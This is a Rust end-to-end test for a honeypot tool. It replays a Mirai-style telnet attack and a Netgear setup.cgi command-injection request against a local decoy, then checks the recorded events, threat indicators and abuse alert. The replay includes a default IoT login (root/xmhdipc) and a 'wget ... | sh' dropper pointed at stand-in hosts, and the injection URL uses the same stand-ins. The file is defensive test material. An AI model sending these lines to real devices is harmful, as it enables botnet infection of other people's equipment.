//! `yamori decoy` end to end: the real binary on 127.0.0.1 with an ephemeral port, a scripted
//! Mirai-style telnet session over a raw TCP socket, SIGTERM, then the events file (Cowrie's
//! format) and the `--json` summary checked field by field.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::{run_ok, yamori};

const PROBE: &str = "ECCHI: applet not found";

/// The decoy process; killed if a test fails before it is stopped.
struct Decoy(Child);

impl Drop for Decoy {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Read until `needle`, answering leading telnet commands as Mirai's `consume_iacs` does.
fn until(s: &mut TcpStream, pending: &mut Vec<u8>, needle: &str) -> String {
    let mut buf = [0u8; 4096];
    loop {
        if let Some(i) = pending
            .windows(needle.len())
            .position(|w| w == needle.as_bytes())
        {
            let rest = pending.split_off(i + needle.len());
            let got = std::mem::replace(pending, rest);
            return String::from_utf8_lossy(&got).into_owned();
        }
        let n = s.read(&mut buf).expect("read from the decoy");
        assert!(n > 0, "closed while waiting for {needle:?}");
        let mut data = &buf[..n];
        let mut reply = Vec::new();
        while data.len() >= 3 && data[0] == 0xff && data[1] != 0xff {
            if data[1] == 0xfd && data[2] == 31 {
                reply.extend([255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240]);
            } else {
                let verb = match data[1] {
                    0xfd => 0xfc,
                    0xfb => 0xfd,
                    v => v,
                };
                reply.extend([0xff, verb, data[2]]);
            }
            data = &data[3..];
        }
        s.write_all(&reply).expect("negotiate");
        pending.extend_from_slice(data);
    }
}

#[test]
fn decoy_records_a_mirai_session_in_cowrie_format() {
    let dir = tempfile::tempdir().expect("temp dir");
    let events = dir.path().join("events.jsonl");
    let child = yamori()
        .arg("--data-dir")
        .arg(dir.path())
        .args([
            "decoy",
            "--listen-telnet",
            "127.0.0.1:0",
            "--profile",
            "camera",
        ])
        // Every listener on loopback: the MQTT one is not part of this test.
        .args(["--listen-http", "127.0.0.1:0", "--listen-mqtt", "off"])
        .args([
            "--sensor",
            "e2e",
            "--org",
            "Example ISP",
            "--json",
            "--events",
        ])
        .arg(&events)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn yamori decoy");
    let mut decoy = Decoy(child);
    let mut stdout = BufReader::new(decoy.0.stdout.take().expect("stdout"));
    let mut first = String::new();
    stdout.read_line(&mut first).expect("first line");
    let addr = first
        .trim()
        .strip_prefix("yamori decoy: telnet listening on ")
        .unwrap_or_else(|| {
            let mut err = String::new();
            if let Some(mut e) = decoy.0.stderr.take() {
                let _ = e.read_to_string(&mut err);
            }
            panic!("unexpected first line {first:?}; stderr: {err}")
        })
        .to_string();
    let mut second = String::new();
    stdout.read_line(&mut second).expect("second line");
    let http = second
        .trim()
        .strip_prefix("yamori decoy: http listening on ")
        .unwrap_or_else(|| panic!("unexpected second line {second:?}"))
        .to_string();

    assert!(http.starts_with("127.0.0.1:"), "{http}");
    let mut s = TcpStream::connect(&addr).expect("connect to the decoy on loopback");
    s.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let mut p = Vec::new();
    until(&mut s, &mut p, "(none) login: ");
    let lines = [
        ("root", "Password: "),
        ("xmhdipc", "~ # "),
        ("enable", "~ # "),
        ("system", "~ # "),
        ("shell", "~ # "),
        ("sh", "~ # "),
        ("/bin/busybox ECCHI", PROBE),
        ("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", PROBE),
        (
            "cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .x; /bin/busybox ECCHI",
            PROBE,
        ),
        (
            "wget http://198.51.100.7/x.sh -O- | sh; /bin/busybox ECCHI",
            PROBE,
        ),
    ];
    let mut said = Vec::new();
    for (line, wait) in lines {
        s.write_all(format!("{line}\r\n").as_bytes()).expect("send");
        said.push(until(&mut s, &mut p, wait));
    }
    assert!(said[7].contains("/dev/root / squashfs ro"), "{:?}", said[7]);
    assert!(
        said[9].contains("Connecting to 198.51.100.7"),
        "{:?}",
        said[9]
    );

    // A Netgear setup.cgi exploit over raw HTTP: its URL goes with the telnet one.
    let mut h = TcpStream::connect(&http).expect("connect to the HTTP decoy");
    h.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    h.write_all(b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://203.0.113.9/n.sh&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n")
        .expect("send request");
    let mut reply = String::new();
    h.read_to_string(&mut reply).expect("reply");
    assert!(reply.starts_with("HTTP/1.1 200 OK"), "{reply}");

    // SIGTERM: the open session is closed and recorded, the summary printed.
    let pid = decoy.0.id().to_string();
    let killed = Command::new("kill").args(["-TERM", &pid]).status();
    assert!(killed.is_ok_and(|s| s.success()), "kill -TERM {pid}");
    let status = decoy.0.wait().expect("decoy exits");
    assert!(status.success(), "{status:?}");
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).expect("summary");
    let summary: Value = serde_json::from_str(rest.trim()).expect("--json summary");
    assert_eq!(summary["sessions"], 2);
    assert_eq!(summary["logins_succeeded"], 1);
    // Eight telnet lines and the exploit's command.
    assert_eq!(summary["commands"], 9);
    assert_eq!(summary["download_urls"], 2);
    assert_eq!(summary["files_written"], 1);
    assert_eq!(summary["write_errors"], 0);
    assert_eq!(summary["stored"], 18, "every record also went to the store");
    // The organisation's identity, the URLs' indicators and their hosts', Mirai (the telnet
    // session's `/bin/busybox ECCHI` probes) with its relationship from the telnet session's
    // URL (the HTTP exploit's session has no probe and names no family), and the one source
    // (both sessions came from 127.0.0.1): its address, observed-data, indicator, sighting and
    // relationship to Mirai.
    assert_eq!(summary["published_objects"], 12);

    let text = std::fs::read_to_string(&events).expect("events file");
    let all: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON object per line"))
        .collect();
    let telnet_session = all[0]["session"].clone();
    let records: Vec<Value> = all
        .iter()
        .filter(|r| r["session"] == telnet_session)
        .cloned()
        .collect();
    let web: Vec<&Value> = all.iter().filter(|r| r["protocol"] == "http").collect();
    let web_ids: Vec<&str> = web.iter().filter_map(|r| r["eventid"].as_str()).collect();
    assert_eq!(
        web_ids,
        [
            "cowrie.session.connect",
            "yamori.http.request",
            "cowrie.command.input",
            "cowrie.session.file_download",
            "cowrie.session.closed"
        ]
    );
    assert_eq!(web[1]["exploit"], "netgear-setup-cgi");
    assert_eq!(web[2]["input"], "wget http://203.0.113.9/n.sh");
    assert_eq!(web[3]["url"], "http://203.0.113.9/n.sh");
    let ids: Vec<&str> = records
        .iter()
        .map(|r| r["eventid"].as_str().unwrap_or("?"))
        .collect();
    let mut want = vec!["cowrie.session.connect", "cowrie.login.success"];
    want.extend(["cowrie.command.input"; 8]);
    want.extend([
        "cowrie.session.file_download",
        "cowrie.session.file_download",
        "cowrie.session.closed",
    ]);
    assert_eq!(ids, want);
    let session = &records[0]["session"];
    for r in &records {
        assert_eq!(&r["session"], session);
        assert_eq!(r["sensor"], "e2e");
        assert_eq!(r["protocol"], "telnet");
        assert_eq!(r["src_ip"], "127.0.0.1");
        assert!(r["src_port"].is_u64() && r["dst_port"].is_u64());
        assert!(r["timestamp"].as_str().is_some_and(|t| t.ends_with('Z')));
    }
    assert_eq!(records[1]["username"], "root");
    assert_eq!(records[1]["password"], "xmhdipc");
    assert_eq!(records[6]["input"], "/bin/busybox ECCHI");
    assert_eq!(records[10]["url"], "http://198.51.100.7/x.sh");
    assert_eq!(records[11]["destfile"], "/tmp/.x");
    // SHA-256 of the four bytes 7f 45 4c 46, computed independently (Python's hashlib).
    assert_eq!(
        records[11]["shasum"],
        "3bdbb4fe8397cd2b842430b39ccff01a8663c751945ef5e9a09e267fb8b1d359"
    );
    assert_eq!(records[11]["size"], 4);
    assert!(records[12]["duration_ms"].is_u64());

    // The store holds the same records, byte for byte as the file's lines.
    let store = yamori_store::Store::open_sqlite(&dir.path().join("yamori.sqlite"))
        .expect("the data directory's database");
    let id = session.as_str().expect("session id");
    let stored = store.decoy_session(id).expect("stored session");
    let lines: Vec<&str> = text
        .lines()
        .filter(|l| l.contains(&format!("\"session\":\"{id}\"")))
        .collect();
    assert_eq!(stored, lines);
    let urls = store.decoy_urls().expect("download URLs");
    let urls: Vec<&str> = urls.iter().map(|u| u.url.as_str()).collect();
    assert_eq!(
        urls,
        ["http://198.51.100.7/x.sh", "http://203.0.113.9/n.sh"]
    );

    // The indicators in the local hub's `decoy` collection.
    let collection = store
        .taxii_collection("api1", "decoy")
        .expect("query")
        .expect("the decoy collection was created");
    let query = yamori_store::taxii::ObjectQuery::new(&collection.id, 100);
    let page = store.taxii_query(&query).expect("objects");
    let mut patterns: Vec<String> = page
        .objects
        .iter()
        .filter_map(|o| o.body.as_deref())
        .filter_map(|b| serde_json::from_str::<Value>(b).ok())
        .filter_map(|o| o["pattern"].as_str().map(str::to_string))
        .collect();
    patterns.sort();
    assert_eq!(
        patterns,
        [
            "[ipv4-addr:value = '127.0.0.1']",
            "[ipv4-addr:value = '198.51.100.7']",
            "[ipv4-addr:value = '203.0.113.9']",
            "[url:value = 'http://198.51.100.7/x.sh']",
            "[url:value = 'http://203.0.113.9/n.sh']"
        ]
    );

    // The act step: an alert to the operator of the attacking address, with what the decoy
    // saw of it (the owners file gives loopback to a test operator).
    drop(store);
    let owners = dir.path().join("owners.tsv");
    std::fs::write(
        &owners,
        "127.0.0.0/8\tLoopback Lab ISP\tabuse@example.net\ten\n",
    )
    .expect("owners file");
    let alerts = dir.path().join("alerts");
    let notify = || {
        let out = run_ok(
            yamori()
                .arg("--data-dir")
                .arg(dir.path())
                .args(["notify", "--from-decoy", "--format", "json", "--owners"])
                .arg(&owners)
                .arg("--out-dir")
                .arg(&alerts),
            0,
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let said = notify();
    assert!(said.contains("decoy: 1 hosts in the last 7d"), "{said}");
    let n = crate::alerts_e2e::notice(&alerts, "01-loopback-lab-isp.json");
    assert_eq!(n["organisation"], "Loopback Lab ISP");
    assert_eq!(n["n_likely_infected"], 1);
    let host = &n["hosts"][0];
    assert_eq!(host["address"], "127.0.0.1");
    let sessions: std::collections::BTreeSet<&str> =
        all.iter().filter_map(|r| r["session"].as_str()).collect();
    assert_eq!(
        host["evidence"],
        serde_json::json!([{
            "sensor": "decoy",
            "first_seen": host["evidence"][0]["first_seen"],
            "last_seen": host["evidence"][0]["last_seen"],
            "sessions": sessions.len(),
            "credentials_tried": ["root / xmhdipc"],
            "download_urls": ["hxxp://198[.]51[.]100[.]7/x.sh", "hxxp://203[.]0[.]113[.]9/n.sh"],
        }])
    );
    let first = host["evidence"][0]["first_seen"]
        .as_str()
        .expect("first seen");
    assert!(
        first.len() == 20
            && first.ends_with('Z')
            && first <= n["generated_at"].as_str().unwrap_or(""),
        "{first}"
    );
    // Within the quiet period the same host is not reported again.
    let said = notify();
    assert!(said.contains("1 hosts not repeated"), "{said}");
}
